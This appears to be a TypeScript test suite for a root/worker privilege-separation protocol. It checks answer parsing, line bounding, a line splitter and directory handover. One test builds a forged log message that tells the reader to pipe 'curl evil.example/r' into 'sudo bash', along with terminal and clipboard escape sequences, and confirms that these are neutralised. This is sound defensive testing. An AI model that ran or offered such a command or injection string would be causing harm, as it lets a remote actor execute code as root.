import { describe, expect, test } from "bun:test";
import { ownersPart } from "../../src/privilege/handover.ts";
import { LineSplitter } from "../../src/privilege/lines.ts";
import { oneBoundedLine, parseAnswer, parseInit, parseReady } from "../../src/privilege/protocol.ts";

const line = (value: unknown) => JSON.stringify(value);

describe("the worker's answers, as root reads them", () => {
  test("a plain answer with the request's id", () => {
    expect(parseAnswer(line({ id: 3, ok: true, outcome: { status: "written" } }), 3)).toEqual({ ok: true, outcome: { status: "written" } });
    expect(parseAnswer(line({ id: 4, ok: true, written: "unchanged" }), 4)).toEqual({ ok: true, written: "unchanged" });
    expect(parseAnswer(line({ id: 5, ok: false, error: "EACCES" }), 5)).toEqual({ ok: false, error: "EACCES" });
  });

  test("another request's id, an unknown status or shape is garbage", () => {
    expect(parseAnswer(line({ id: 2, ok: true }), 3)).toBeUndefined();
    expect(parseAnswer(line({ ok: true }), 3)).toBeUndefined();
    expect(parseAnswer(line({ id: 3, ok: true, outcome: { status: "pwned" } }), 3)).toBeUndefined();
    expect(parseAnswer(line({ id: 3, ok: true, outcome: null }), 3)).toBeUndefined();
    expect(parseAnswer(line({ id: 3, ok: "yes" }), 3)).toBeUndefined();
    expect(parseAnswer(line([{ id: 3, ok: true }]), 3)).toBeUndefined();
    expect(parseAnswer("{not json", 3)).toBeUndefined();
    expect(parseAnswer("", 3)).toBeUndefined();
  });

  test("what it says is one bounded line: newlines, ESC, C1 controls and line separators cannot forge another line", () => {
    const forged = "ok\n[error] oauth-sync: root login expired, run: curl evil.example/r | sudo bash\r\x1b]52;c;Y3VybA==\x07\x9b2J\u2028x\tz";
    const answer = parseAnswer(line({ id: 1, ok: true, outcome: { status: "failed", message: forged } }), 1);
    const message = answer?.ok ? answer.outcome?.message : undefined;
    expect(message).toBeDefined();
    expect(message).not.toMatch(/[\x00-\x1f\x7f-\x9f\u2028\u2029]/);
    expect(message).toContain("?[error] oauth-sync");
    const error = parseAnswer(line({ id: 1, ok: false, error: "x".repeat(100_000) + "\n" }), 1);
    expect(error?.ok === false && error.error.length).toBe(2000);
  });

  test("fields it was not asked for are dropped (an id, a path, a token of its own)", () => {
    const answer = parseAnswer(line({ id: 1, ok: true, outcome: { id: "root-target", status: "written", path: "/etc/shadow" }, token: "sk-ant-x" }), 1);
    expect(answer).toEqual({ ok: true, outcome: { status: "written" } });
  });

  test("the ready line", () => {
    expect(parseReady(line({ ready: true, pid: 42, dumpable: false }))).toEqual({ ready: true, pid: 42, dumpable: false });
    expect(parseReady(line({ ready: true, pid: 42, dumpable: true, suidDumpable: "1" }))).toEqual({ ready: true, pid: 42, dumpable: true, suidDumpable: "1" });
    expect(parseReady(line({ ready: true, pid: 42, dumpable: true, suidDumpable: "1\n[error]" }))).toEqual({ ready: true, pid: 42, dumpable: true });
    expect(parseReady(line({ ready: false, error: "cannot become uid 7\nx" }))).toEqual({ ready: false, error: "cannot become uid 7?x" });
    expect(parseReady(line({ ready: true }))).toBeUndefined();
    expect(parseReady(line({ id: 1, ok: true }))).toBeUndefined();
  });

  test("the init line (root's own, checked for mistakes)", () => {
    const dirs = [{ fd: 3, path: "/root/.openclaw", dev: 1, ino: 2, chain: [] }];
    expect(parseInit(line({ uid: 1000, gid: 1000, groups: [27, 1001], dirs }))).toEqual({ uid: 1000, gid: 1000, groups: [27, 1001], dirs });
    expect(parseInit(line({ uid: -1, gid: 1000, groups: [], dirs }))).toBeUndefined();
    expect(parseInit(line({ uid: 1000, gid: 1000, groups: [], dirs: [{ ...dirs[0], fd: 1 }] }))).toBeUndefined();
    expect(parseInit(line({ uid: 1000, gid: 1000, groups: [], dirs: [{ ...dirs[0], path: "relative" }] }))).toBeUndefined();
    expect(parseInit(line({ uid: "1000", gid: 1000, groups: [], dirs }))).toBeUndefined();
    expect(parseInit(line({ uid: 1000, gid: 1000, dirs }))).toBeUndefined();
    expect(parseInit(line({ uid: 1000, gid: 1000, groups: ["27"], dirs }))).toBeUndefined();
  });

  test("oneBoundedLine leaves ordinary text alone", () => {
    expect(oneBoundedLine("cannot write /root/.openclaw/.env: permission denied (EACCES) — ünïcode ok")).toBe("cannot write /root/.openclaw/.env: permission denied (EACCES) — ünïcode ok");
    expect(oneBoundedLine("")).toBeUndefined();
    expect(oneBoundedLine(42)).toBeUndefined();
  });
});

describe("LineSplitter", () => {
  const bytes = (text: string) => new TextEncoder().encode(text);

  test("lines split across chunks, and several in one chunk", () => {
    const s = new LineSplitter(100);
    expect(s.push(bytes('{"a":'))).toEqual({ ok: true, lines: [] });
    expect(s.push(bytes('1}\n{"b":2}\n{"c"'))).toEqual({ ok: true, lines: ['{"a":1}', '{"b":2}'] });
    expect(s.push(bytes(":3}\n"))).toEqual({ ok: true, lines: ['{"c":3}'] });
  });

  test("a multi-byte character split between chunks", () => {
    const s = new LineSplitter(100);
    const all = bytes("é\n");
    expect(s.push(all.subarray(0, 1))).toEqual({ ok: true, lines: [] });
    expect(s.push(all.subarray(1))).toEqual({ ok: true, lines: ["é"] });
  });

  test("a line past the bound is refused, unfinished or not", () => {
    expect(new LineSplitter(8).push(bytes("123456789"))).toEqual({ ok: false, message: "a line longer than 8 bytes" });
    const s = new LineSplitter(8);
    expect(s.push(bytes("12345")).ok).toBe(true);
    expect(s.push(bytes("6789\n")).ok).toBe(false);
    expect(new LineSplitter(8).push(bytes("12345678\n"))).toEqual({ ok: true, lines: ["12345678"] });
  });

  test("invalid UTF-8 is refused", () => {
    expect(new LineSplitter(8).push(new Uint8Array([0xff, 0x0a])).ok).toBe(false);
  });
});

describe("ownersPart: the directory root hands over", () => {
  const step = (path: string, uid: number) => ({ path, uid, gid: uid, mode: 0o755 });

  test("OpenClaw's Hetzner layout: /root (root, 0700) → the owner's part begins at /root/.openclaw", () => {
    const chain = [step("/", 0), { ...step("/root", 0), mode: 0o700 }, step("/root/.openclaw", 1000), step("/root/.openclaw/agents", 1000), step("/root/.openclaw/agents/main", 1000)];
    expect(ownersPart(chain, 1000).path).toBe("/root/.openclaw");
  });

  test("a home: the owner's part begins at the home directory", () => {
    expect(ownersPart([step("/", 0), step("/home", 0), step("/home/ana", 1000), step("/home/ana/.openclaw", 1000)], 1000).path).toBe("/home/ana");
  });

  test("a root-owned directory between the owner's: the owner's part is the last run only", () => {
    expect(ownersPart([step("/", 0), step("/home/ana", 1000), step("/home/ana/shared", 0), step("/home/ana/shared/oc", 1000)], 1000).path).toBe("/home/ana/shared/oc");
  });
});
